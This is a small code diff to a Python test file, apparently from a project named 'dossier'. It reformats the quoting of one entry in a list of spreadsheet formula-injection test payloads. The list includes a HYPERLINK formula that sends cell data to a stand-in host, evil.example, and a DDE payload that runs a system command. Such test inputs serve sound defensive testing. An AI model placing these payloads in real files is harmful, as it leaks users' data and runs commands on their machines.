@@ -17,7 +17,7 @@ from dossier.project import open_project
 from dossier.rules import load_rules
 
 ATTACKS = [
-    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
     "=cmd|' /C calc'!A0",
     "+1+1",
     "-2+3",
